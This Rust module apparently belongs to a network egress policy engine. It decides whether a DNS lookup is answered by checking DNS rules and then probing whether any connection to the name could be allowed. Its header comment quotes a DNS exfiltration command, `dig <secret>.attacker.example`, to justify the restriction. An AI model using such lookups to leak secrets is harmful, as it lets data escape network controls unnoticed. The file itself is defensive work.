//! How a DNS lookup is decided (policy-v1, "DNS lookups"), before any
//! address is known.
//!
//! A lookup exists to make a connection; a lookup for a connection no rule
//! could allow is only a channel (`dig <secret>.attacker.example` delivers
//! the secret with no connection at all). So:
//!
//! 1. The lookup is decided as a probe request (below) of protocol `dns`
//!    to the name, port 53. If a rule decides it (a rule naming the name
//!    with no `protocols`, or with `dns` among them), that rule settles the
//!    lookup.
//! 2. Otherwise the lookup is answered when a connection to the name
//!    could be allowed by name: some protocol (`https`, `tls`, `http`,
//!    `tcp`) and port (443, 80, or one a rule or service names) whose
//!    decision, made with no addresses, is not a refusal. HTTP requests
//!    are probes ([`ANY_REQUEST`]): a rule that checks methods, paths or
//!    data counts when it allows (some request could meet it) and not when
//!    it refuses (some request could avoid it). Rules that allow by
//!    address alone (`cidrs`) do not make a name worth looking up: a name
//!    reached that way needs a rule naming it (or a `dns` rule).
//! 3. If every such connection is refused, so is the lookup, by the
//!    decision of the first one tried (HTTPS on 443).
//!
//! The ports tried are those of rules and services: `ports` of a rule's
//! `to` and of services.

use crate::decide::{ANY_REQUEST, By, Decision, Grants, Request};
use crate::model::{Document, Effect, Protocol};

/// The ports a lookup is tried against: 443, 80, then every port a rule
/// names, at most 32 in all.
pub(crate) fn ports(doc: &Document) -> Box<[u16]> {
    let mut ports = vec![443, 80];
    let named = doc
        .rules
        .iter()
        .filter_map(|r| r.to.as_ref()?.ports.as_ref())
        .chain(doc.services.iter().filter_map(|s| s.ports.as_ref()))
        .flatten();
    for p in named {
        if ports.len() >= 32 {
            break;
        }
        if !ports.contains(p) {
            ports.push(*p);
        }
    }
    ports.into_boxed_slice()
}

/// A lookup's decision.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct Lookup {
    /// Whether the name is resolved and answered.
    pub answered: bool,
    /// `Some(Deny)`: answered only because the rules that would refuse it
    /// are in report mode.
    pub would: Option<Effect>,
    /// The decision that settled it, and the protocol and port of the
    /// request it was made for (`dns` and 53 when a rule named the
    /// lookup itself).
    pub decision: Decision,
    pub protocol: Protocol,
    pub port: u16,
    /// What names the lookup's decision.
    pub by: By,
}

impl Lookup {
    /// The request the lookup `req` was decided on (its trace is this
    /// request's).
    pub fn request<'a>(&self, req: &Request<'a>) -> Request<'a> {
        Request {
            protocol: self.protocol,
            port: self.port,
            ips: &[],
            method: match self.protocol {
                Protocol::Tls | Protocol::Tcp => "",
                _ => ANY_REQUEST,
            },
            path: "",
            ..*req
        }
    }

    /// `allow` when answered, else `deny`.
    pub fn effect(&self) -> Effect {
        if self.answered {
            Effect::Allow
        } else {
            Effect::Deny
        }
    }
}

impl crate::Policy {
    /// Decides a DNS lookup of `req.host` by `req.machine` (see the module
    /// documentation). `req.protocol` is `dns`; `req.ips` is empty.
    pub fn decide_lookup(&self, req: &Request<'_>, grants: &dyn Grants) -> Lookup {
        let dns = Request {
            protocol: Protocol::Dns,
            port: 53,
            ips: &[],
            method: ANY_REQUEST,
            path: "",
            ..*req
        };
        let d = self.decide(&dns, grants);
        if matches!(d.applied.by, By::Rule(_)) {
            return Lookup {
                answered: d.applied.effect != Effect::Deny,
                would: d.would(),
                decision: d,
                protocol: Protocol::Dns,
                port: 53,
                by: d.named().by,
            };
        }
        // A connection allowed in full answers the lookup; one allowed only
        // by report mode answers it as `would: deny`; else the first
        // refusal (HTTPS on 443) is the lookup's. HTTP requests are probes
        // (`ANY_REQUEST`): some request could meet an allow's methods,
        // paths or data, and some could avoid a refusal's.
        let mut reported: Option<Lookup> = None;
        let mut refused: Option<Lookup> = None;
        let kinds = [
            (Protocol::Https, ANY_REQUEST),
            (Protocol::Tls, ""),
            (Protocol::Http, ANY_REQUEST),
            (Protocol::Tcp, ""),
        ];
        for (protocol, method) in kinds {
            for &port in self.lookup_ports.iter() {
                let view = Request {
                    protocol,
                    port,
                    method,
                    ..dns
                };
                let d = self.decide(&view, grants);
                let l = |answered, would| Lookup {
                    answered,
                    would,
                    decision: d,
                    protocol,
                    port,
                    by: d.named().by,
                };
                match (
                    d.applied.effect == Effect::Deny,
                    d.shadow.effect == Effect::Deny,
                ) {
                    (false, false) => return l(true, None),
                    (false, true) => {
                        reported.get_or_insert(l(true, Some(Effect::Deny)));
                    }
                    (true, _) => {
                        refused.get_or_insert(l(false, None));
                    }
                }
            }
        }
        reported.or(refused).unwrap_or(Lookup {
            answered: false,
            would: None,
            decision: d,
            protocol: Protocol::Dns,
            port: 53,
            by: d.named().by,
        })
    }

    /// Why a lookup was decided as it was, for its record and for
    /// `veto policy test`.
    pub fn lookup_reason(&self, l: &Lookup, req: &Request<'_>) -> String {
        let view = l.request(req);
        let reason = self.reason(&l.decision, &view);
        if l.protocol == Protocol::Dns {
            return reason;
        }
        if !l.answered {
            return format!(
                "not looked up: no connection to `{}` could be allowed ({reason})",
                req.host
            );
        }
        format!(
            "looked up: a {} connection to {}:{} could be allowed ({reason})",
            l.protocol.as_str(),
            req.host,
            l.port
        )
    }
}
